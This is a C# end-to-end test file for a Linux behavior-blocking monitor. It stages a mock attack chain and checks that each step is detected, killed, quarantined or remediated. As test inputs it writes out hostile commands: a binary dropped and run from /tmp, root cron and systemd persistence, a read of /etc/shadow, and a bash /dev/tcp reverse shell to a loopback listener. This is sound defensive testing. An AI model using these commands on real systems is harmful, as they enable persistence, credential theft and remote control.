using System;
using System.Collections.Generic;
using System.Diagnostics;
using System.IO;
using System.Linq;
using System.Net;
using System.Net.Sockets;
using System.Security.Cryptography;
using BehaviorBlocking.Detections;
using BehaviorBlocking.Engine;
using BehaviorBlocking.Pipeline;
using BehaviorBlocking.Policy;
using BehaviorBlocking.Response;
using BehaviorBlocking.Store;
using BehaviorBlocking.Tests.Engine;
using BehaviorBlocking.Tests.TestSupport;
using Microsoft.Data.Sqlite;

namespace BehaviorBlocking.Tests.EndToEnd
{
    /// <summary>Tests that run a Block-mode monitor over this machine's real sensors: alone, so no other test's processes are in its sight.</summary>
    [Xunit.CollectionDefinition(Name, DisableParallelization = true)]
    public sealed class LiveMachineCollection
    {
        /// <summary>The collection's name.</summary>
        public const string Name = "live monitor over the whole machine";
    }

    /// <summary>
    /// An attack chain written for this product, run for real under a Block-mode monitor with this machine's sensors
    /// (process connector, fanotify file events and exec guard, sock_diag connections) and the built-in rules: each
    /// stage is detected under its tactic, its tree is killed, the dropped executable is quarantined and its hash
    /// blocked so the next exec of the same bytes fails with EPERM before it runs, and the persistence is removed.
    /// </summary>
    [Xunit.Collection(LiveMachineCollection.Name)]
    [System.Runtime.Versioning.SupportedOSPlatform("linux")]
    public sealed class LiveAttackChainTests : IDisposable
    {
        private readonly TempDirectory _temp = new TempDirectory();
        private readonly string _id = Guid.NewGuid().ToString("N").Substring(0, 10);
        private readonly string _home;
        private readonly string _store;
        private readonly string _stage;
        private readonly string _cron;
        private readonly string _unit;
        private readonly List<SpawnedTree> _trees = new List<SpawnedTree>();

        public LiveAttackChainTests()
        {
            _home = _temp.Combine("home");
            Directory.CreateDirectory(_home);
            _store = Path.Combine(_home, "behaviorblocking.db");

            // Staging folder in /tmp, as droppers use; the persistence goes where cron and systemd read it.
            _stage = Path.Combine("/tmp", "bbx-" + _id);
            _cron = "/etc/cron.d/bbx-" + _id;
            _unit = "/etc/systemd/system/bbx-" + _id + ".service";
        }

        public void Dispose()
        {
            foreach (SpawnedTree tree in _trees)
            {
                tree.Dispose();
            }

            foreach (string file in new[] { _cron, _unit })
            {
                if (File.Exists(file))
                {
                    File.Delete(file);
                }
            }

            if (Directory.Exists(_stage))
            {
                Directory.Delete(_stage, true);
            }

            SqliteConnection.ClearAllPools();
            _temp.Dispose();
        }

        [LinuxRootFact]
        public void BlockMode_AttackChain_DetectedByTactic_TreesKilled_PayloadQuarantinedAndRefusedBeforeItRuns_PersistenceRemoved()
        {
            Directory.CreateDirectory(_stage);
            Directory.CreateDirectory(Path.GetDirectoryName(_unit)!);

            // A payload no other process on the machine shares: a real program with bytes of its own after its end.
            byte[] payload = File.ReadAllBytes("/bin/sleep").Concat(RandomNumberGenerator.GetBytes(64)).ToArray();
            string payloadHash = Convert.ToHexString(SHA256.HashData(payload));
            string source = _temp.Combine("payload.bin");
            File.WriteAllBytes(source, payload);
            File.WriteAllText(Path.Combine(_home, PolicyFile.FileName), Policy());

            using BehaviorEngine engine = BehaviorEngine.Create(new EngineOptions { UseModel = false });
            var observer = new CollectingObserver();
            var request = new MonitorRequest
            {
                SourceFactory = context => LiveSensors.Create(new LiveSensorOptions { ProductHome = context.ProductHome }, context.Indicators, context.Policy),
                ProductHome = _home,
                StorePath = _store,
                ResponseComponents = OnlyOurProcesses,
                StatsInterval = TimeSpan.FromSeconds(1),
                PolicyPollInterval = TimeSpan.FromMilliseconds(200),
            };
            using MonitorSession session = MonitorService.Start(engine, request, observer);
            Assert.True(MonitorTestKit.Eventually(() => session.Health().Sources.All(s => s.State == LiveSourceState.Running), 10_000),
                "every sensor runs: " + string.Join(", ", session.Health().Sources.Select(s => s.Name + "=" + s.State + " " + s.LastError)));

            // 1. Execution: drop an executable in /tmp, make it executable, run it.
            string dropped = Path.Combine(_stage, "update-agent");
            SpawnedTree execution = Stage($"cp '{source}' '{dropped}' && chmod 755 '{dropped}' && exec '{dropped}' 60");
            Assert.True(Gone(execution), "the payload's tree was killed");
            Detection executed = WaitFor(observer, Tactic.Execution, d => d.Image == dropped);
            Assert.True(MonitorTestKit.Eventually(() => !File.Exists(dropped), 10_000), "the dropped executable was quarantined");
            Assert.True(MonitorTestKit.Eventually(() => BlockedHashes().Contains(payloadHash), 10_000), "the payload's hash is blocked");

            // 1b. The same bytes under another name are refused before they run.
            string again = Path.Combine(_stage, "update-agent-2");
            File.WriteAllBytes(again, payload);
            File.SetUnixFileMode(again, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
            // Started by this process itself, not through a shell: a shell running a program from a staging folder is
            // behavior a rule may stop on its own (killing it, exit 137), which would hide whether the exec was refused.
            var refused = Assert.ThrowsAny<System.ComponentModel.Win32Exception>(() =>
            {
                using Process? started = Process.Start(new ProcessStartInfo(again, "1") { UseShellExecute = false });
                started?.WaitForExit();
            });
            Assert.Equal(1, refused.NativeErrorCode); // EPERM: the exec guard said no.

            // 2. Persistence: a cron entry and a systemd unit that start the payload.
            SpawnedTree persistence = Stage($"echo '* * * * * root {dropped}' > '{_cron}'; printf '[Service]\\nExecStart={dropped}\\n' > '{_unit}'; sleep 60");
            Assert.True(Gone(persistence), "the tree that wrote the persistence was killed");
            WaitFor(observer, Tactic.Persistence, d => d.Evidence.Any(e => e.Description.Contains("bbx-" + _id, StringComparison.Ordinal)) || d.Image == "/usr/bin/dash" || d.Image == "/bin/dash");
            Assert.True(MonitorTestKit.Eventually(() => !File.Exists(_cron), 10_000), "the cron entry was removed");
            Assert.True(MonitorTestKit.Eventually(() => !File.Exists(_unit), 10_000), "the systemd unit was removed");

            // 3. Credential access: read the shadow file.
            SpawnedTree credentials = Stage("tail -f /etc/shadow > /dev/null");
            Assert.True(Gone(credentials), "the tree reading /etc/shadow was killed");
            WaitFor(observer, Tactic.CredentialAccess, d => (d.CommandLine ?? string.Empty).Contains("/etc/shadow", StringComparison.Ordinal));

            // 4. Command and control: a shell's streams on a connection to a listener on 127.0.0.1.
            using var listener = new TcpListener(IPAddress.Loopback, 0);
            listener.Start();
            int port = ((IPEndPoint)listener.LocalEndpoint).Port;
            SpawnedTree shell = Stage($"exec bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'");
            using TcpClient accepted = listener.AcceptTcpClient();
            Assert.True(Gone(shell), "the reverse shell was killed");
            WaitFor(observer, Tactic.CommandAndControl, d => (d.CommandLine ?? string.Empty).Contains("/dev/tcp/127.0.0.1/" + port, StringComparison.Ordinal)
                || d.DestinationPort() == port);

            MonitorHealth health = session.Stop();
            List<Detection> ours = observer.Detections().Where(d => d.Platform == DetectionPlatform.Linux).ToList();
            Assert.All(ours, d => Assert.StartsWith("Behavior:Linux/", d.Name, StringComparison.Ordinal));
            Assert.Contains(executed.Actions, a => a.Kind == ResponseKind.KillTree && a.Outcome == StepOutcome.Done);
            Assert.True(health.Actions.Any(a => a.Kind == ResponseKind.Quarantine && a.Outcome == StepOutcome.Done), "a quarantine was recorded");
            Assert.True(health.Actions.Any(a => a.Kind == ResponseKind.Remediate && a.Outcome == StepOutcome.Done), "a remediation was recorded");
            Assert.True(health.Sources.Single(s => s.Name == "fanotify-exec").Counters.Single(c => c.Name == "execDenied").Value >= 1, "the exec guard counted the refusal");
        }

        [LinuxRootFact]
        public void BlockMode_SecondAttackOfTheSameTacticFromTheSameParent_IsKilledToo()
        {
            string marker = "bbx-again-" + _id;
            string rules = _temp.Combine("rules");
            Directory.CreateDirectory(rules);
            File.WriteAllText(Path.Combine(rules, "marker.yml"), "title: Marker\nid: 5b7c1f0e-1111-4000-8000-" + _id.PadRight(12, '0').Substring(0, 12)
                + "\nstatus: experimental\nlevel: critical\ntags:\n  - attack.execution\nlogsource:\n  product: linux\n  category: process_creation\n"
                + "detection:\n  sel:\n    CommandLine|contains: '" + marker + "'\n  condition: sel\n");
            File.WriteAllText(Path.Combine(_home, PolicyFile.FileName),
                "{ \"schemaVersion\": 1, \"version\": \"again\", \"mode\": \"Block\", \"defaults\": { \"threshold\": 0.1, \"action\": \"KillTree\" } }");
            using BehaviorEngine engine = BehaviorEngine.Create(new EngineOptions { BuiltInRules = false, RuleDirectories = new[] { rules }, UseModel = false });
            var observer = new CollectingObserver();
            using MonitorSession session = MonitorService.Start(engine, new MonitorRequest
            {
                SourceFactory = c => LiveSensors.Create(new LiveSensorOptions { Files = false, Network = false, ExecGuard = false }, c.Indicators, c.Policy),
                ProductHome = _home,
                StorePath = _store,
                ResponseComponents = OnlyOurProcesses,
            }, observer);
            Assert.True(MonitorTestKit.Eventually(() => session.Health().Sources.All(s => s.State == LiveSourceState.Running), 10_000));

            // Both are children of this process (the monitor itself, whose events are not judged): one tree, one tactic.
            for (int i = 0; i < 3; i++)
            {
                SpawnedTree attack = Stage("sleep 60 & sleep 60 & wait # " + marker + "-" + i);
                Assert.True(Gone(attack), $"attack {i} was killed");
            }

            session.Stop();
            Assert.Equal(3, observer.Verdicts().SelectMany(v => v.Response.Steps).Count(s => s.Kind == ResponseKind.KillTree && s.Outcome == StepOutcome.Done));
        }

        // The monitor sees the whole machine; it may act only on the trees this test starts (its children), never on
        // another process that happens to match a rule meanwhile.
        private static ResponseComponents OnlyOurProcesses(string home, string? store) =>
            ResponseComponents.GuardedBy(new DescendantsOnlyGuardRails(new GuardRails(), Environment.ProcessId), home, store!);

        private static string RepositoryAndHostExclusions()
        {
            // The test runner itself (this repository's build output and the dotnet host) is excluded, as an admin
            // excludes a build agent: a Block-mode monitor sees every process of the machine.
            string host = Path.GetDirectoryName(Environment.ProcessPath!)!;
            return "{ \"image\": \"" + TestPaths.RepositoryRoot + "/*\", \"justification\": \"test runner build output\" },"
                + " { \"image\": \"" + host + "/*\", \"justification\": \"dotnet host running the tests\" },"
                + " { \"parentImage\": \"" + host + "/*\", \"commandLine\": \"*" + TestPaths.RepositoryRoot + "*\", \"justification\": \"tools the test runner starts\" }";
        }

        private static string Policy() =>
            "{ \"schemaVersion\": 1, \"version\": \"attack-chain\", \"mode\": \"Block\","
            + " \"defaults\": { \"threshold\": 0.1, \"action\": \"KillTree\", \"quarantine\": true, \"blockHash\": true, \"remediate\": true },"
            + " \"exclusions\": [ " + RepositoryAndHostExclusions() + " ] }";

        private SpawnedTree Stage(string script)
        {
            SpawnedTree tree = SpawnedTree.Start(script);
            _trees.Add(tree);
            return tree;
        }

        private static bool Gone(SpawnedTree tree) => MonitorTestKit.Eventually(() => tree.Root.HasExited && tree.Running().Count == 0, 15_000);

        private static Detection WaitFor(CollectingObserver observer, Tactic tactic, Func<Detection, bool> ours)
        {
            Detection? found = null;
            bool seen = MonitorTestKit.Eventually(() => (found = observer.Detections().LastOrDefault(d => d.Tactic == tactic && ours(d))) is not null, 15_000);
            Assert.True(seen, $"a {tactic} detection; seen: " + string.Join("; ", observer.Detections().Select(d => d.Name + " " + d.Image + " " + d.CommandLine)));
            Assert.StartsWith("Behavior:Linux/" + tactic + ".", found!.Name, StringComparison.Ordinal);
            Assert.True(found.Action == DetectionAction.Blocked,
                found.Name + " was " + found.Action + ": " + string.Join("; ", found.Actions.Select(a => a.Kind + " " + a.Target + " " + a.Outcome + " " + a.Detail)));
            return found;
        }

        private HashSet<string> BlockedHashes()
        {
            using IndicatorStore indicators = IndicatorStore.Open(_store);
            return new HashSet<string>(indicators.List().Where(i => i.Kind == IndicatorKind.Sha256 && i.Verdict == IndicatorVerdict.Block).Select(i => i.Value),
                StringComparer.OrdinalIgnoreCase);
        }
    }

    internal static class DetectionPorts
    {
        /// <summary>The remote port a network connection in the detection's evidence names, or null.</summary>
        public static int? DestinationPort(this Detection detection)
        {
            foreach (Evidence evidence in detection.Evidence)
            {
                int at = evidence.Description.IndexOf("127.0.0.1:", StringComparison.Ordinal);
                if (at >= 0 && int.TryParse(new string(evidence.Description.Skip(at + 10).TakeWhile(char.IsDigit).ToArray()), out int port))
                {
                    return port;
                }
            }

            return null;
        }
    }
}
